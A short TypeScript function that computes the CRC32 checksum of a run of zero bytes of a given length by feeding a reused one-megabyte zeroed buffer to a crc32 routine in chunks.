function zerosCrc(length: number): number {
  const slice = Buffer.alloc(MEGABYTE);
  let crc = 0;
  for (let left = length; left > 0; left -= slice.length) crc = crc32(left >= slice.length ? slice : slice.subarray(0, left), crc);
  return crc;
}
